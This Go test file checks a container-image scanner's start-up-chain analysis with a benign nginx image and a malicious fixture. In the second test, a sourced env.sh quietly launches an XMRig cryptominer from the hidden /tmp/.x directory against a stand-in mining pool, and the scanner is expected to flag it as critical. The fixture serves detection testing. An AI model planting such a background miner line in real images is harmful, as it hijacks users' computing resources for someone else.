package startup

import (
	"os"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/customs-oss/customs/internal/imagetest"
	"github.com/customs-oss/customs/internal/report"
	"github.com/customs-oss/customs/internal/scantest"
)

func inspect(t *testing.T, img v1.Image) *report.Report {
	t.Helper()
	return scantest.Inspect(t, img, "example.com/team/app:1", Checks())
}

type hit struct {
	Check, Severity, Message, Path string
}

func hits(r *report.Report) []hit {
	var out []hit
	for _, f := range r.Findings {
		out = append(out, hit{f.Check, f.Severity.String(), f.Message, f.Evidence.Path})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Check+out[i].Message < out[j].Check+out[j].Message })
	return out
}

func readTestdata(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestScanNginx: the official nginx entrypoint with its entrypoint.d
// scripts gives the chain and nothing else.
func TestScanNginx(t *testing.T) {
	img := imagetest.Image(t, v1.Config{
		Entrypoint: []string{"/docker-entrypoint.sh"},
		Cmd:        []string{"nginx", "-g", "daemon off;"},
	},
		imagetest.Step{CreatedBy: "ADD rootfs /", Layer: imagetest.Layer(t,
			imagetest.Dir("usr/"), imagetest.Dir("usr/sbin/"), imagetest.Exec("usr/sbin/nginx", "\x7fELF nginx"),
			imagetest.Dir("etc/"), imagetest.File{Path: "etc/os-release", Content: "ID=debian\n"})},
		imagetest.Step{CreatedBy: "COPY docker-entrypoint.sh /", Layer: imagetest.Layer(t,
			imagetest.Exec("docker-entrypoint.sh", readTestdata(t, "nginx-entrypoint.sh")),
			imagetest.Dir("docker-entrypoint.d/"),
			imagetest.Exec("docker-entrypoint.d/10-listen-on-ipv6-by-default.sh", readTestdata(t, "10-listen-on-ipv6-by-default.sh")),
			imagetest.Exec("docker-entrypoint.d/15-local-resolvers.envsh", "#!/bin/sh\nset -eu\nexport NGINX_LOCAL_RESOLVERS=$(awk '/^nameserver/ {print $2}' /etc/resolv.conf)\n"),
			imagetest.File{Path: "docker-entrypoint.d/README", Content: "not a script\n"})},
	)
	r := inspect(t, img)
	want := []hit{{
		Check: "startup/chain", Severity: "info", Path: "/docker-entrypoint.sh",
		Message: "start-up chain: /docker-entrypoint.sh → runs /docker-entrypoint.d/10-listen-on-ipv6-by-default.sh → " +
			"sources /etc/os-release → sources /docker-entrypoint.d/15-local-resolvers.envsh → exec nginx -g 'daemon off;'",
	}}
	if diff := cmp.Diff(want, hits(r)); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}

// TestScanMinerInBackground: the entrypoint sources a script that starts a
// miner from a hidden directory in the background, then execs the app.
func TestScanMinerInBackground(t *testing.T) {
	img := imagetest.Image(t, v1.Config{
		Entrypoint: []string{"/usr/bin/tini", "--", "/entrypoint.sh"},
		Cmd:        []string{"app"},
		Env:        []string{"PATH=/usr/local/bin:/usr/bin:/bin"},
	},
		imagetest.Step{CreatedBy: "ADD rootfs /", Layer: imagetest.Layer(t,
			imagetest.Dir("usr/"), imagetest.Dir("usr/bin/"), imagetest.Exec("usr/bin/tini", "\x7fELF tini"),
			imagetest.Dir("usr/local/"), imagetest.Dir("usr/local/bin/"), imagetest.Exec("usr/local/bin/app", "\x7fELF app"))},
		imagetest.Step{CreatedBy: "COPY . /", Layer: imagetest.Layer(t,
			imagetest.Exec("entrypoint.sh", "#!/bin/bash\nset -e\n. /etc/app/env.sh\n. /etc/app/missing.sh\nif [ \"$1\" = app ]; then\n  exec su-exec app \"$@\"\nfi\nexec \"$@\"\n"),
			imagetest.Dir("etc/"), imagetest.Dir("etc/app/"),
			imagetest.File{Path: "etc/app/env.sh", Content: "export APP_MODE=prod\nnohup /tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ4 >/dev/null 2>&1 &\ncrond\n(/opt/tools/sync --loop) &\n"},
			imagetest.Dir("tmp/"), imagetest.Dir("tmp/.x/"), imagetest.Exec("tmp/.x/xmrig", "\x7fELF miner"))},
	)
	r := inspect(t, img)
	want := []hit{
		{
			Check: "startup/background", Severity: "critical", Path: "/etc/app/env.sh",
			Message: "/etc/app/env.sh line 2 starts nohup /tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ4 in the background " +
				"before the main process: xmrig, the mark of the XMRig cryptominer, which works for whoever planted it on the CPU and network of whoever runs the image",
		},
		{
			Check: "startup/background", Severity: "medium", Path: "/etc/app/env.sh",
			Message: "/etc/app/env.sh line 4 starts /opt/tools/sync --loop in the background before the main process",
		},
		{
			Check: "startup/chain", Severity: "info", Path: "/entrypoint.sh",
			Message: "start-up chain: /entrypoint.sh → sources /etc/app/env.sh → starts in the background: nohup /tmp/.x/xmrig " +
				"-o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ4 → starts in the background: /opt/tools/sync --loop → exec su-exec app app",
		},
		{
			Check: "startup/missing-script", Severity: "medium", Path: "/entrypoint.sh",
			Message: "/entrypoint.sh line 4 sources /etc/app/missing.sh, which is not in the image",
		},
	}
	if diff := cmp.Diff(want, hits(r)); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	if r.Verdict.Decision != report.Reject {
		t.Errorf("verdict %s, want reject", r.Verdict.Decision)
	}
	for _, f := range r.Findings {
		if f.Check == "startup/background" && f.Severity == report.SeverityCritical && f.Item != report.ItemMalicious {
			t.Errorf("miner finding filed under %v", f.Item)
		}
		if strings.Contains(f.Message, "line 0") {
			t.Errorf("message without a line: %s", f.Message)
		}
	}
}
